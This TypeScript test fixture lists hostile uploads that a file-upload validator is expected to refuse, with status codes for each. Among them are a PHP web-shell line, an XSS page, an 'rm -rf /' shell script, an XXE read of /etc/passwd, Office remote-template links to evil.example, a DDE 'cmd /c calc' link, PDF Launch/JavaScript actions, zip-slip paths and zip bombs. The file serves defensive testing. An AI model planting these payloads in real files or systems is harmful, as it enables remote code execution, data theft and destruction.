import type { FileKind } from '../../src/api/contracts/file-kinds.ts';
import {
  HONEST,
  KINDS,
  MULTIPART,
  multipart,
  nameOf,
  OFFICE,
  stretched,
  type ZipEntry,
  zip,
} from '../support/files.ts';
import { JUDGED } from './active-documents.ts';

/** An upload that must not be stored, and the answer that says why. */
export interface HostileUpload {
  readonly what: string;
  readonly body: Buffer<ArrayBuffer> | undefined;
  readonly headers?: Readonly<Record<string, string>>;
  readonly status: number;
  readonly code: string;
}

const upload = (what: string, name: string, data: Buffer | string, status: number, code: string) => ({
  what,
  body: multipart([{ filename: name, data }]),
  status,
  code,
});
const wrongContent = (what: string, name: string, data: Buffer | string) =>
  upload(what, name, data, 415, 'file_content');
const both = (...parts: readonly (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));

const PAGE = '<html><script>alert(document.cookie)</script></html>';
const JAR = zip([
  { name: 'META-INF/MANIFEST.MF', data: 'Main-Class: Evil' },
  { name: 'Evil.class', data: 'cafebabe' },
]);
const PNG_END = '\x00\x00\x00\x00IEND\xae\x42\x60\x82';
const PROGRAM = both('MZ\x90\x00', Buffer.alloc(200));

/** What is hung behind an honest file. */
const TAILS: Readonly<Record<string, Buffer | string>> = {
  'an archive': JAR,
  'an archive whose comment ends like a picture': zip([{ name: 'a', data: 'a' }], { comment: PNG_END }),
  'an archive whose comment ends like a JPEG': zip([{ name: 'a', data: 'a' }], { comment: '\xff\xd9' }),
  'an archive whose comment ends like a PDF': zip([{ name: 'a', data: 'a' }], { comment: '\n%%EOF\n' }),
  'a page': PAGE,
  'a script': '<?php system($_GET[0]); ?>',
  'a program': PROGRAM,
};

const PICTURES_AND_PDF = ['png', 'jpeg', 'pdf'] as const;
const OFFICE_KINDS = ['docx', 'xlsx', 'odt', 'ods'] as const;

/** A document with further entries, or with some replaced. */
const document = (kind: (typeof OFFICE_KINDS)[number], extra: readonly ZipEntry[], options = {}) =>
  zip([...OFFICE[kind], ...extra], options);

/** A PDF one object of which does something. */
const pdfWith = (action: string) =>
  both(
    HONEST.pdf.subarray(0, 15),
    `2 0 obj\n<< /Type /Action ${action} >>\nendobj\n`,
    HONEST.pdf.subarray(15),
  );

function* polyglots(): Generator<HostileUpload> {
  for (const kind of PICTURES_AND_PDF)
    for (const [what, tail] of Object.entries(TAILS))
      yield wrongContent(`${kind} with ${what} behind it`, nameOf(kind), both(HONEST[kind], tail));
  for (const kind of OFFICE_KINDS) {
    for (const [what, tail] of Object.entries({ 'a page': PAGE, 'a program': PROGRAM }))
      yield wrongContent(`${kind} with ${what} behind it`, nameOf(kind), both(HONEST[kind], tail));
    yield wrongContent(`${kind} behind a program`, nameOf(kind), both(PROGRAM, HONEST[kind]));
    yield wrongContent(`${kind} behind a PDF`, nameOf(kind), both(HONEST.pdf, HONEST[kind]));
    yield wrongContent(
      `${kind} with room in its comment`,
      nameOf(kind),
      document(kind, [], { comment: PAGE }),
    );
    const shifted = both('PK\x03\x04', PAGE);
    yield wrongContent(
      `${kind} with a page before its first entry`,
      nameOf(kind),
      both(shifted, document(kind, [], { prefix: shifted.length })),
    );
  }
  for (const start of [
    ' ',
    '\n',
    '\xef\xbb\xbf',
    '<!-- -->',
    'GIF89a',
    '\x00',
    'ID3\x03\x00\x00\x00\x00\x00\x00',
  ])
    for (const kind of PICTURES_AND_PDF)
      yield wrongContent(`${kind} after ${JSON.stringify(start)}`, nameOf(kind), both(start, HONEST[kind]));
  for (const page of [PAGE, '<SCRIPT>1</SCRIPT>', '<!DOCTYPE html>', '<svg onload=1>', '<?php 1 ?>'])
    yield wrongContent(
      `PDF whose second line is ${page.slice(0, 9)}`,
      'act.pdf',
      both('%PDF-1.4\n', page, '\n%%EOF'),
    );
  yield wrongContent('PDF without an end', 'act.pdf', HONEST.pdf.subarray(0, 60));
  yield wrongContent('PDF of a version that does not exist', 'act.pdf', both('%PDF-9.9\n%%EOF\n'));
  yield wrongContent('JPEG cut short', 'act.jpg', HONEST.jpeg.subarray(0, 40));
  yield wrongContent('PNG cut short', 'act.png', HONEST.png.subarray(0, 50));
  yield wrongContent(
    'a moving PNG',
    'act.png',
    both(HONEST.png.subarray(0, 33), '\x00\x00\x00\x08acTL', Buffer.alloc(12), HONEST.png.subarray(33)),
  );
}

/** Each kind under the name of every other. */
function* disguises(): Generator<HostileUpload> {
  for (const kind of KINDS)
    for (const other of KINDS)
      if (kind !== other && !(other === 'txt' && kind === 'txt'))
        yield wrongContent(`${kind} called ${other}`, nameOf(other), HONEST[kind]);
  const foreign: Readonly<Record<string, Buffer | string>> = {
    program: PROGRAM,
    ELF: both('\x7fELF', Buffer.alloc(60)),
    GIF: both('GIF89a', Buffer.alloc(60)),
    RAR: both('Rar!\x1a\x07\x01\x00', Buffer.alloc(60)),
    'old Word': both('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(600)),
  };
  for (const [what, data] of Object.entries(foreign))
    for (const kind of ['pdf', 'docx', 'png', 'txt'] as const)
      yield wrongContent(`${what} called ${kind}`, nameOf(kind), data);
}

const RUNNING = ['exe', 'scr', 'bat', 'js', 'lnk', 'hta', 'svg', 'html', 'docm', 'zip'];
const DIRECTIONS = ['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'];

function* names(): Generator<HostileUpload> {
  const refused = (name: string, data: Buffer = HONEST.pdf) =>
    upload(`the name ${JSON.stringify(name)}`, name, data, 415, 'file_extension');
  for (const extension of RUNNING) yield refused(`invoice.pdf.${extension}`);
  for (const end of ['.', ' ', '. . ', '\u200b', '\u202e']) yield refused(`invoice.pdf.exe${end}`);
  for (const direction of DIRECTIONS) yield refused(`invoice${direction}fdp.exe`);
  for (const name of [
    'invoice',
    '.pdf',
    'pdf',
    '..',
    '.htaccess',
    'invoice.pdf/',
    'invoice.pdf::$DATA',
    'a.pdf\u0000.exe',
  ])
    yield refused(name);
  for (const extension of ['exe', 'js', 'html', 'php', 'svg', 'lnk'])
    for (const kind of ['pdf', 'txt'] as const)
      yield upload(
        `a hidden .${extension} before .${kind}`,
        `act.${extension}.${kind}`,
        HONEST[kind],
        422,
        'file_name',
      );
  yield upload('a hidden extension behind a zero', 'act.exe\u0000.pdf', HONEST.pdf, 422, 'file_name');
}

function* archives(): Generator<HostileUpload> {
  const nothing = Buffer.alloc(8 * 1024 * 1024);
  for (const kind of OFFICE_KINDS) {
    const refused = (what: string, extra: readonly ZipEntry[], options = {}) =>
      wrongContent(`${kind} ${what}`, nameOf(kind), document(kind, extra, options));
    yield refused('that is a bomb', [{ name: 'bomb.xml', data: nothing }]);
    yield refused('that claims to be enormous', [
      { name: 'a.xml', data: 'a', claims: { unpacked: 0x7fffffff } },
    ]);
    yield refused(
      'of many middling bombs',
      Array.from({ length: 60 }, (_, i) => ({
        name: `${i}.xml`,
        data: 'a'.repeat(60_000),
        claims: { unpacked: 9_000_000 },
      })),
    );
    yield refused('whose entries lie over each other', [
      { name: 'a.xml', data: 'a'.repeat(1000), stored: true },
      { name: 'b.xml', data: 'b', claims: { placeOf: 3 } },
    ]);
    yield refused(
      'of too many entries',
      Array.from({ length: 2001 }, (_, i) => ({ name: `${i}.xml`, data: 'a' })),
    );
    yield refused('with a path that leads out', [{ name: '../../evil.xml', data: 'a' }]);
    yield refused('with a path from the root', [{ name: '/etc/cron.d/evil', data: 'a' }]);
    yield refused('with a path of another system', [{ name: '..\\..\\evil.xml', data: 'a' }]);
    yield refused('with a drive', [{ name: 'C:\\evil.xml', data: 'a' }]);
    yield refused('with an entry twice', [{ name: OFFICE[kind][2]?.name ?? '', data: 'other' }]);
    yield refused('with an entry twice in other letters', [
      { name: OFFICE[kind][2]?.name.toUpperCase() ?? '', data: 'other' },
    ]);
    yield refused('with two names for one entry', [
      { name: 'evil.exe', data: 'a', claims: { centralName: 'good.xml' } },
    ]);
    yield refused('with a secret entry', [{ name: 'a.xml', data: 'a', claims: { flags: 1 } }]);
    yield refused('packed in an unknown way', [{ name: 'a.xml', data: 'a', claims: { method: 99 } }]);
    yield refused('with a program inside', [{ name: 'media/run.exe', data: PROGRAM }]);
    yield refused('that lists fewer entries than it has', [{ name: 'a.xml', data: 'a' }], { count: 1 });
    yield refused('that lists more entries than it has', [{ name: 'a.xml', data: 'a' }], { count: 40 });
    yield wrongContent(`${kind} without its list`, nameOf(kind), HONEST[kind].subarray(0, -30));
    yield wrongContent(`${kind} that is any archive`, nameOf(kind), JAR);
    yield wrongContent(`${kind} without its text`, nameOf(kind), zip(OFFICE[kind].slice(0, 2)));
  }
  const macros = (what: string, kind: (typeof OFFICE_KINDS)[number], data: Buffer) =>
    upload(what, nameOf(kind), data, 415, 'file_macros');
  for (const part of [
    'word/vbaProject.bin',
    'WORD/VBAPROJECT.BIN',
    'word/vbaData.xml',
    'word/activeX/activeX1.bin',
  ])
    yield macros(`docx with ${part}`, 'docx', document('docx', [{ name: part, data: 'a' }]));
  for (const part of ['xl/vbaProject.bin', 'xl/macrosheets/sheet1.xml'])
    yield macros(`xlsx with ${part}`, 'xlsx', document('xlsx', [{ name: part, data: 'a' }]));
  yield macros(
    'docx with an object of another program',
    'docx',
    document('docx', [{ name: 'word/embeddings/oleObject1.bin', data: PROGRAM }]),
  );
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const leadsTo = (type: string, target: string, mode = 'TargetMode="External"') =>
    `<Relationships><Relationship Id="r1" Type="${office}/${type}" Target="${target}" ${mode}/></Relationships>`;
  for (const [what, rels] of Object.entries({
    'fetches its template': leadsTo('attachedTemplate', 'http://evil.example/t.dotm'),
    'fetches its template from a share': leadsTo('attachedTemplate', '\\\\evil.example\\t.dotm'),
    'fetches its template, says it otherwise': leadsTo(
      'attached&#84;emplate',
      'http://evil.example/t.dotm',
      "TargetMode = ' external '",
    ),
    'shows a frame from elsewhere': leadsTo('frame', 'http://evil.example/'),
    'shows an object from elsewhere': leadsTo('oleObject', 'http://evil.example/o'),
  }))
    yield macros(
      `docx that ${what}`,
      'docx',
      document('docx', [{ name: 'word/_rels/settings.xml.rels', data: rels }]),
    );
  yield macros(
    'xlsx with a channel to a program',
    'xlsx',
    document('xlsx', [
      {
        name: 'xl/externalLinks/externalLink1.xml',
        data: '<x:externalLink xmlns:x="y"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>',
      },
    ]),
  );
  for (const rels of ['<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>', '<Relationships'])
    yield wrongContent(
      `docx whose links are ${rels}`,
      'act.docx',
      document('docx', [{ name: 'word/_rels/footnotes.xml.rels', data: rels }]),
    );
  for (const action of ['/S /JavaScript /JS (app.alert(1))', '/S/Launch/F(cmd.exe)', '/S /J#61vaScript'])
    yield upload(`pdf with ${action}`, 'act.pdf', pdfWith(action), 415, 'file_macros');
  for (const part of ['Basic/Standard/Module1.xml', 'Scripts/python/a.py'])
    for (const kind of ['odt', 'ods'] as const)
      yield macros(`${kind} with ${part}`, kind, document(kind, [{ name: part, data: 'a' }]));
  for (const type of [
    'application/vnd.ms-office.vbaProject',
    'application/vnd.ms-word.document.macroEnabled.main+xml',
  ])
    yield macros(
      `docx that declares ${type} under another name`,
      'docx',
      zip([
        { name: '[Content_Types].xml', data: `<Types><Override ContentType="${type}"/></Types>` },
        ...OFFICE.docx.slice(1),
      ]),
    );
  const lying = [
    { name: '[Content_Types].xml', data: '<Types>'.padEnd(300_000, ' '), claims: { unpacked: 7 } },
  ];
  yield wrongContent(
    'docx whose list of types is longer than it says',
    'act.docx',
    zip([...lying, ...OFFICE.docx.slice(1)]),
  );
}

/** Documents that start, fetch or carry something, and those that nobody could look into. */
function* activeDocuments(): Generator<HostileUpload> {
  for (const { what, kind, data, problem } of JUDGED)
    if (problem) yield upload(what, nameOf(kind), data, 415, problem);
}

function* texts(): Generator<HostileUpload> {
  const wrong: Readonly<Record<string, Buffer | string>> = {
    'with a zero': both('a\x00b'),
    'with an escape sequence': both('\x1b]0;evil\x07'),
    'with a control character of the second set': Buffer.from('a\u0090b'),
    'of broken UTF-8': both('a\xff\xfeb'),
    'that ends within a letter': Buffer.from('текст').subarray(0, -1),
    'in UTF-16': Buffer.from('\ufeffпривет', 'utf16le'),
    'in windows-1251': both('\xcf\xf0\xe8\xe2\xe5\xf2'),
    'that is a page': PAGE,
    'that is a page after a blank line': `\n \t${PAGE}`,
    'that is a drawing with a script': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'that is XML': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    'that is a shell script': '#!/bin/sh\nrm -rf /\n',
    'that is PostScript': '%!PS\n(evil) run\n',
    'that is rich text': '{\\rtf1\\object}',
    'with a broken letter far behind': both('a'.repeat(200_000), '\xc3'),
  };
  for (const [what, data] of Object.entries(wrong)) yield wrongContent(`a text ${what}`, 'act.txt', data);
}

function* sizes(): Generator<HostileUpload> {
  for (const kind of KINDS) {
    yield upload(`an empty ${kind}`, nameOf(kind), '', 422, 'file_empty');
    const big = both(HONEST[kind], Buffer.alloc(5 * 1024 * 1024 - HONEST[kind].length + 1));
    yield upload(`${kind} of 5 MB and a byte`, nameOf(kind), big, 413, 'file_too_large');
  }
  for (const kind of ['pdf', 'jpeg', 'txt'] as const) {
    const big = stretched(kind, 5 * 1024 * 1024 + 1);
    yield upload(`an honest ${kind} of 5 MB and a byte`, nameOf(kind), big, 413, 'file_too_large');
  }
  yield upload('12 MB', 'act.pdf', Buffer.alloc(12 * 1024 * 1024, 'a'), 413, 'file_too_large');
}

function* forms(): Generator<HostileUpload> {
  const honest = { filename: 'act.pdf', data: HONEST.pdf };
  const note = { field: 'note', data: 'a' };
  const wrong = (
    what: string,
    body: Buffer<ArrayBuffer> | undefined,
    status: number,
    code: string,
    headers = {},
  ) => ({
    what,
    body,
    status,
    code,
    headers,
  });
  yield wrong('two files', multipart([honest, honest]), 422, 'one_file_only');
  yield wrong(
    'a second file under another name',
    multipart([honest, { ...honest, field: 'other' }]),
    422,
    'one_file_only',
  );
  yield wrong('a field before the file', multipart([note, honest]), 422, 'one_file_only');
  yield wrong('a field after the file', multipart([honest, note]), 422, 'one_file_only');
  yield wrong(
    'a field of the file’s name',
    multipart([honest, { field: 'file', data: 'a' }]),
    422,
    'one_file_only',
  );
  yield wrong('a thousand fields', multipart(Array.from({ length: 1000 }, () => note)), 422, 'one_file_only');
  yield wrong('no part', multipart([]), 422, 'file_missing');
  yield wrong(
    'no file name',
    multipart([{ data: HONEST.pdf, type: 'application/octet-stream' }]),
    422,
    'file_missing',
  );
  yield wrong('another field', multipart([{ ...honest, field: 'upload' }]), 422, 'file_missing');
  yield wrong(
    'a part without a disposition',
    multipart([{ ...honest, disposition: 'X-Nothing: 1' }]),
    422,
    'file_missing',
  );
  yield wrong(
    'an attachment instead of form data',
    multipart([{ ...honest, disposition: 'Content-Disposition: attachment; name="file"; filename="a.pdf"' }]),
    422,
    'file_missing',
  );
  yield wrong('a body that breaks off', multipart([honest], { closed: false }), 400, 'bad_request');
  yield wrong('a packed body', multipart([honest]), 415, 'unsupported_media_type', {
    'content-encoding': 'gzip',
  });
  // Nobody reads the part that these end in: it has been refused by its name.
  const broken = (parts: Parameters<typeof multipart>[0]) => multipart(parts, { closed: false });
  yield wrong(
    'a body that breaks off within a refused file',
    broken([{ ...honest, filename: 'act.exe' }]),
    415,
    'file_extension',
  );
  yield wrong(
    'a body that breaks off within a wrong part',
    broken([{ ...honest, field: 'photo' }]),
    422,
    'file_missing',
  );
  yield wrong(
    'a body that breaks off within a second file',
    broken([{ ...honest, filename: 'act.exe' }, honest]),
    415,
    'file_extension',
  );
  yield wrong('an empty body', Buffer.alloc(0), 400, 'bad_request');
  yield wrong('no multipart inside', Buffer.from('hello'), 400, 'bad_request');
  yield wrong('no boundary', multipart([honest]), 400, 'bad_request', {
    'content-type': 'multipart/form-data',
  });
  yield wrong('another boundary', multipart([honest]), 400, 'bad_request', {
    'content-type': 'multipart/form-data; boundary=x',
  });
  for (const type of [
    'application/json',
    'application/x-www-form-urlencoded',
    'application/pdf',
    'multipart/mixed; boundary=x',
    'text/plain',
  ])
    yield wrong(`a body of ${type}`, HONEST.pdf as Buffer<ArrayBuffer>, 415, 'unsupported_media_type', {
      'content-type': type,
    });
  yield wrong('an empty key', multipart([honest]), 400, 'incorrect_idempotency_key', {
    'idempotency-key': '',
  });
  yield wrong('a long key', multipart([honest]), 400, 'incorrect_idempotency_key', {
    'idempotency-key': 'k'.repeat(201),
  });
  const huge = `Content-Disposition: form-data; name="file"; filename="${'a'.repeat(100_000)}.pdf"`;
  yield wrong('a header without end', multipart([{ ...honest, disposition: huge }]), 415, 'file_extension');
  yield wrong(
    'a line break in the name',
    multipart([
      {
        data: HONEST.pdf,
        disposition: 'Content-Disposition: form-data; name="file"; filename*=utf-8\'\'a%0d%0ab.pdf',
      },
    ]),
    422,
    'file_missing',
  );
}

/** The type that the sender claims is not believed: an honest file under another type is what it is. */
export const CLAIMED_TYPES: readonly (readonly [FileKind, string])[] = KINDS.flatMap((kind) =>
  ['text/html', 'application/x-msdownload', 'image/svg+xml'].map((type) => [kind, type] as const),
);

/** Every hostile upload that one request shows. */
export const HOSTILE: readonly HostileUpload[] = [
  ...polyglots(),
  ...disguises(),
  ...names(),
  ...archives(),
  ...activeDocuments(),
  ...texts(),
  ...sizes(),
  ...forms(),
].map((one) => ({ ...one, headers: { 'content-type': MULTIPART, ...one.headers } }));
